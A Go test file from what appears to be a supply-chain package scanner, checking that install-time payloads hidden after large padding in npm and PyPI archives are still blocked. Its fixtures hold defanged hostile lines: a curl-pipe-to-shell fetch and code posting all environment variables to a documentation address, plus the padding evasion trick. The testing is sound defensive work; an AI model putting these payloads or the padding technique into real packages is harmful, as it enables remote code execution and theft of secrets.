package main

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"

	"github.com/moatproject/moat/internal/testutil/npmfake"
	"github.com/moatproject/moat/internal/testutil/pypifake"
	"github.com/moatproject/moat/scan"
)

// TestPaddedPayloadBlocked: an install-time payload after 1, 4 or 16 MiB
// of padding (comments, a docstring, or plain code the parse budget cannot
// cover) is refused by the shipped scanner: judged malicious as it is
// without the padding, or, past the archive's 16 MiB per-file limit, a scan
// error that enforce mode refuses.
// The payloads are defanged: a documentation address, never run.
func TestPaddedPayloadBlocked(t *testing.T) {
	if testing.Short() {
		t.Skip("scans up to 16 MiB files")
	}
	cfg := testConfig("http://127.0.0.1:1/")
	s, closeScanner, err := buildScanner(scannerOptionsFrom(cfg, nil))
	if err != nil {
		t.Fatalf("loading the shipped model: %v", err)
	}
	defer closeScanner()

	const js = "const cp = require('child_process');\nconst os = require('os');\n" +
		"cp.execSync('curl -s http://192.0.2.80/p.sh | sh');\n" +
		"require('https').request('https://192.0.2.80/c', { method: 'POST' }).end(JSON.stringify(process.env));\n"
	const py = "import os, json, urllib.request\nfrom setuptools import setup\n" +
		"os.system('curl -s http://192.0.2.80/p.sh | sh')\n" +
		"urllib.request.urlopen('http://192.0.2.80/c', data=json.dumps(dict(os.environ)).encode())\n" +
		"setup(name='padded-fixture', version='1.0')\n"
	// Padding lines carry pseudo-random words so that the archive does not
	// compress beyond the zip-bomb ratio (which would refuse it for that
	// reason, not for its payload).
	rng := rand.New(rand.NewPCG(1, 2))
	repeat := func(line string, size int) string {
		var b strings.Builder
		for b.Len() < size {
			b.WriteString(strings.Replace(line, "lorem", strconv.FormatUint(rng.Uint64(), 36), 1))
		}
		return b.String()
	}
	pads := map[string]func(int) (js, py string){
		"comments": func(n int) (string, string) {
			return "/*\n" + repeat(" * lorem ipsum dolor sit amet, consectetur\n", n) + " */\n", repeat("# lorem ipsum dolor sit amet, consectetur\n", n)
		},
		"line comments and docstring": func(n int) (string, string) {
			return repeat("// lorem ipsum dolor sit amet, consectetur\n", n), "\"\"\"\n" + repeat("lorem ipsum dolor sit amet, consectetur\n", n) + "\"\"\"\n"
		},
		"code": func(n int) (string, string) {
			return repeat("exports.k = (exports.k || 0) + 1;\n", n), repeat("K = [1, 2, 3]\n", n)
		},
	}
	for _, mib := range []int{1, 4, 16} {
		for pad, mk := range pads {
			if pad == "code" && mib == 16 {
				continue // 16 MiB of dense code: the archive's per-file cap, covered by the others
			}
			jsPad, pyPad := mk(mib << 20)
			sdistName, sdistData := pypifake.Sdist("padded-fixture", "1.0", map[string]string{"setup.py": pyPad + py})
			for _, c := range []paddedCase{
				{"npm", "padded-fixture-1.0.0.tgz", npmfake.BuildTarball(map[string]string{
					"package.json": `{"name":"padded-fixture","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
					"install.js":   jsPad + js,
				}), jsPad + js},
				{"pypi", sdistName, sdistData, pyPad + py},
			} {
				t.Run(fmt.Sprintf("%s/%s/%dMiB", c.eco, pad, mib), func(t *testing.T) {
					r := s.Scan(context.Background(), scan.Input{Filename: c.fn, Data: c.data})
					// A file over the archive's per-file limit (16 MiB) is kept
					// only in part: install-time code that was not read whole
					// is a scan error of kind "unanalysed", which the default
					// on_scan_error: block refuses, never a clean verdict.
					over := len(c.body) > 16<<20
					switch {
					case over && (r.Verdict != scan.VerdictError || r.ErrorKind != scan.KindUnanalysed):
						t.Errorf("over the per-file limit: %s (%s), want error %q", r.Verdict, r.ErrorKind, scan.KindUnanalysed)
					case !over && r.Verdict != scan.VerdictMalicious:
						t.Errorf("%s (%s %s, score %.4f, decided by %s); sequence %v", r.Verdict, r.ErrorKind, r.Error, r.Score, r.DecidedBy, r.Sequence)
					}
				})
			}
		}
	}
}

// paddedCase is one archive of TestPaddedPayloadBlocked and its padded file.
type paddedCase struct {
	eco, fn string
	data    []byte
	body    string
}
